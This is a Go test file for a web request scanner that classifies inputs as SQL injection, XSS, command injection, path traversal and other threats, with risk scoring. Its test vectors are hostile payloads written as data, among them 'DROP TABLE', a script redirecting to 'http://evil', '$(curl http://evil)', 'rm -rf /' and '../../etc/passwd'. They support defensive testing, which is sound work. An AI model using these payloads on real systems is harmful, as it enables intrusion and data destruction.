package scanner

import (
	"net/http"
	"net/url"
	"testing"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"
)

func bodyOf(pairs map[string]interface{}) RequestComponents {
	return RequestComponents{Body: pairs, BodySize: 64}
}

func TestBenignLoginPayload(t *testing.T) {
	a := New(0).Scan(bodyOf(map[string]interface{}{
		"email":    "alice@example.com",
		"password": "correct horse battery staple",
	}))
	assert.False(t, a.IsAttack)
	assert.Equal(t, RiskLow, a.RiskLevel)
	assert.Empty(t, a.Categories)
}

func TestSQLInjectionInBody(t *testing.T) {
	a := New(0).Scan(bodyOf(map[string]interface{}{
		"email": "a@b.com' OR '1'='1",
	}))
	require.True(t, a.IsAttack)
	assert.Contains(t, a.Categories, CategorySQLInjection)
	assert.NotEqual(t, RiskLow, a.RiskLevel)
}

func TestSQLInjectionVariants(t *testing.T) {
	vectors := []string{
		"1 UNION SELECT username, password FROM users",
		"'; DROP TABLE users; SELECT * FROM accounts WHERE 1=1",
		"admin' AND 1=1",
		"' OR '1'='1",
		"x' OR 'a'='a' --",
		"EXEC(@cmd)",
	}
	for _, v := range vectors {
		a := New(0).Scan(bodyOf(map[string]interface{}{"q": v}))
		assert.Contains(t, a.Categories, CategorySQLInjection, "vector: %s", v)
	}
}

func TestXSSInQuery(t *testing.T) {
	q := url.Values{"redirect": {"<script>document.location='http://evil'</script>"}}
	a := New(0).Scan(RequestComponents{Query: q})
	require.True(t, a.IsAttack)
	assert.Contains(t, a.Categories, CategoryXSS)

	q = url.Values{"next": {"javascript:alert(1)"}}
	a = New(0).Scan(RequestComponents{Query: q})
	assert.Contains(t, a.Categories, CategoryXSS)
}

func TestCommandInjection(t *testing.T) {
	a := New(0).Scan(bodyOf(map[string]interface{}{
		"name": "foo; rm -rf /",
	}))
	assert.Contains(t, a.Categories, CategoryCommandInjection)

	a = New(0).Scan(bodyOf(map[string]interface{}{
		"name": "$(curl http://evil)",
	}))
	assert.Contains(t, a.Categories, CategoryCommandInjection)
}

func TestPathTraversalInParams(t *testing.T) {
	a := New(0).Scan(RequestComponents{
		Params: map[string]string{"file": "../../etc/passwd"},
	})
	assert.Contains(t, a.Categories, CategoryPathTraversal)
}

func TestOversizedPayload(t *testing.T) {
	a := New(1024).Scan(RequestComponents{
		Body:     map[string]interface{}{"data": "x"},
		BodySize: 2048,
	})
	require.True(t, a.IsAttack)
	assert.Contains(t, a.Categories, CategoryOversizedPayload)
	assert.Equal(t, RiskLow, a.RiskLevel)
}

func TestSuspiciousFieldNames(t *testing.T) {
	a := New(0).Scan(bodyOf(map[string]interface{}{
		"email":   "alice@example.com",
		"is_root": true,
	}))
	require.True(t, a.IsAttack)
	assert.Contains(t, a.Categories, CategorySuspiciousFields)

	// Legitimate auth fields overlap the suspicious substrings and must not
	// trigger: "password" contains no flagged word, "api_key_token" does but
	// also carries an allowlisted one.
	a = New(0).Scan(bodyOf(map[string]interface{}{
		"password":      "hunter2",
		"api_key_token": "abc",
	}))
	assert.NotContains(t, a.Categories, CategorySuspiciousFields)
}

func TestAllCategoriesAccumulate(t *testing.T) {
	q := url.Values{"redirect": {"javascript:alert(1)"}}
	a := New(0).Scan(RequestComponents{
		Body: map[string]interface{}{
			"email": "a@b.com' OR '1'='1",
		},
		BodySize: 64,
		Query:    q,
		Params:   map[string]string{"file": "../../../etc/passwd"},
	})
	require.True(t, a.IsAttack)
	assert.Contains(t, a.Categories, CategorySQLInjection)
	assert.Contains(t, a.Categories, CategoryXSS)
	assert.Contains(t, a.Categories, CategoryPathTraversal)
	assert.Equal(t, RiskCritical, a.RiskLevel)
	assert.Equal(t, 25, a.Score)
}

func TestRiskTiers(t *testing.T) {
	cases := []struct {
		categories []Category
		want       RiskLevel
	}{
		{nil, RiskLow},
		{[]Category{CategorySuspiciousFields}, RiskLow},
		{[]Category{CategoryPathTraversal}, RiskMedium},
		{[]Category{CategorySQLInjection}, RiskHigh},
		{[]Category{CategorySQLInjection, CategoryXSS}, RiskCritical},
	}
	for _, tc := range cases {
		assert.Equal(t, tc.want, levelFor(scoreCategories(tc.categories)), "categories: %v", tc.categories)
	}
}

func TestProxyHeadersAloneAreNotAnAttack(t *testing.T) {
	h := http.Header{}
	h.Set("X-Forwarded-For", "203.0.113.7")
	a := New(0).Scan(RequestComponents{Headers: h})
	assert.False(t, a.IsAttack)
	assert.Contains(t, a.Categories, CategoryProxyUsage)
	assert.Equal(t, RiskLow, a.RiskLevel)
}

func TestScoreWithFoldsInContextFindings(t *testing.T) {
	a := New(0).Scan(bodyOf(map[string]interface{}{
		"email": "a@b.com' OR '1'='1",
	}))
	require.Equal(t, RiskHigh, a.RiskLevel)

	a.ScoreWith(CategoryBruteForce)
	assert.Equal(t, RiskCritical, a.RiskLevel)
	assert.Equal(t, 16, a.Score)
}
